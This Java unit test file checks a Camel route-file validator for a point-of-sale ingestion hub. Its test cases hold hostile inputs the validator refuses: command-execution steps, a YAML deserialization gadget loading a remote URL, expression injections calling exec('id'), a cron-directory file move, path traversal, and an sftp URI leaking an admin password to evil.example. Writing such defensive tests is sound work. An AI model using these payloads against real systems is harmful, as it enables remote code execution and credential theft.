package io.poshub.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Each way a route file reached beyond the hub's templates — found by trying it — is refused, at its line, and the
 * files the hub ships and documents are taken.
 */
class RouteFileRulesTest {

    private final RouteFileRules rules = new RouteFileRules(List.of("file", "sftp"));

    private static String feed(String source) {
        return """
                - templatedRoute:
                    routeTemplateRef: pos-feed
                    routeId: feed-a
                    parameters:
                      - { name: feed, value: a }
                      - { name: source, value: "%s" }
                      - { name: mapping, value: counterpoint }
                """.formatted(source);
    }

    @Test
    void theShippedRouteFileAndADoneFileNameAreTaken() throws Exception {
        assertThat(rules.read(Files.readString(Path.of("routes/store-001.camel.yaml"))))
                .singleElement().satisfies(d -> {
                    assertThat(d.routeId()).isEqualTo("feed-store-001");
                    assertThat(d.parameters()).containsEntry("mapping", "counterpoint").containsEntry("source", "file:data/inbox/store-001");
                });
        assertThat(rules.read(feed("file:data/inbox/a?doneFileName=${file:name}.done&delay=2000"))).hasSize(1);
        assertThat(rules.read(feed("sftp://till@pos.example:22/outbox?knownHostsFile=/keys/known_hosts"))).hasSize(1);
        assertThat(rules.read("""
                - templatedRoute:
                    routeTemplateRef: terminal-feed
                    routeId: feed-terminals
                    parameters:
                      - { name: feed, value: terminals }
                      - { name: source, value: "file:data/inbox/terminals" }
                      - { name: mapping, value: terminals }
                """)).singleElement().satisfies(d -> assertThat(d.template()).isEqualTo("terminal-feed"));
    }

    /** The item a review used: a plain route beside a feed, writing outside the data folder and running a command. */
    @Test
    void aPlainRouteBesideAFeedIsRefusedAtItsLine() {
        String file = feed("file:data/inbox/a") + """
                - route:
                    from:
                      uri: timer:once?repeatCount=1
                      steps:
                        - to: exec:touch?args=/tmp/poshub-owned
                """;
        assertThatThrownBy(() -> rules.read(file)).hasMessage("line 8: only templatedRoute items of the hub's templates "
                + "(member-feed, pos-feed, terminal-feed) may stand in a route file, not 'route'");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            a bean step                    | - from: {uri: 'timer:x', steps: [{bean: {beanType: java.lang.Runtime, method: exec}}]} | line 1: only templatedRoute items of the hub's templates (member-feed, pos-feed, terminal-feed) may stand in a route file, not 'from'
            beans                          | - beans: [{name: r, type: java.lang.ProcessBuilder}]                                   | line 1: only templatedRoute items of the hub's templates (member-feed, pos-feed, terminal-feed) may stand in a route file, not 'beans'
            a Java tag                     | - templatedRoute: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x']]]] | line 1: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager
            a template of Camel's own      | - templatedRoute: {routeTemplateRef: myTemplate, routeId: r}                            | line 1: routeTemplateRef 'myTemplate' is not one of the hub's templates (member-feed, pos-feed, terminal-feed)
            a local tag                    | - templatedRoute: !foo {routeTemplateRef: pos-feed, routeId: r}                       | line 1: the YAML tag !foo is not taken
            beans inside a templated route | - templatedRoute: {routeTemplateRef: pos-feed, routeId: r, beans: [{name: x, type: '#class:java.lang.Runtime'}]} | line 1: templatedRoute takes parameters, routeId, routeTemplateRef, not 'beans'
            """)
    void whateverIsNotAFeedOfTheHubsTemplatesIsRefused(String what, String file, String reason) {
        assertThatThrownBy(() -> rules.read(file)).as(what).hasMessage(reason);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            exec                            | exec:sh?args=-c whoami                           | line 6: the source's component 'exec' is not one of poshub.routes.allowed-sources (file, sftp)
            bean                            | bean:java.lang.Runtime?method=exec               | line 6: the source's component 'bean' is not one of poshub.routes.allowed-sources (file, sftp)
            class                           | class:java.lang.ProcessBuilder                   | line 6: the source's component 'class' is not one of poshub.routes.allowed-sources (file, sftp)
            language                        | language:groovy:'id'.execute()                   | line 6: the source's component 'language' is not one of poshub.routes.allowed-sources (file, sftp)
            a file moved outside the data   | file:data/inbox/a?move=/etc/cron.d/x             | line 6: the source option 'move' is not taken (taken: antExclude, antInclude, binary, charset, connectTimeout, delay, disconnect, doneFileName, exclude, include, initialDelay, knownHostsFile, maxMessagesPerPoll, passiveMode, password, privateKeyFile, privateKeyPassphrase, readLockMinAge, recursive, soTimeout, stepwise, strictHostKeyChecking, timeout, username)
            a class by reference            | file:data/inbox/a?include=#class:java.lang.Runtime | line 6: the source names a bean or class (#…): the hub sets those itself
            a Simple method call            | file:data/inbox/a?doneFileName=${bean:runtime.exec('id')} | line 6: source holds an expression (${…}); only ${file:name} and the like, in a done file's name, are taken
            a method on the body            | file:data/inbox/a?doneFileName=${body.getClass().forName('x')} | line 6: source holds an expression (${…}); only ${file:name} and the like, in a done file's name, are taken
            an environment variable         | sftp://{{env:POSHUB_ADMIN_PASSWORD}}@evil.example/x | line 6: source holds a property placeholder ({{…}}): give the value itself
            """)
    void aSourceReachesNothingButAFolderOrAnSftpServer(String what, String source, String reason) {
        assertThatThrownBy(() -> rules.read(feed(source))).as(what).hasMessage(reason);
    }

    @Test
    void namesAreLowerCaseWordsAndNeverPaths() {
        assertThatThrownBy(() -> rules.read(feed("file:x").replace("value: a }", "value: ../../etc }")))
                .hasMessage("line 5: feed name '../../etc' is [a-z0-9][a-z0-9_-]{0,63}");
        assertThatThrownBy(() -> rules.read(feed("file:x").replace("value: counterpoint", "value: ../counterpoint")))
                .hasMessage("line 7: mapping name '../counterpoint' is [a-z0-9][a-z0-9_-]{0,63}");
    }
}
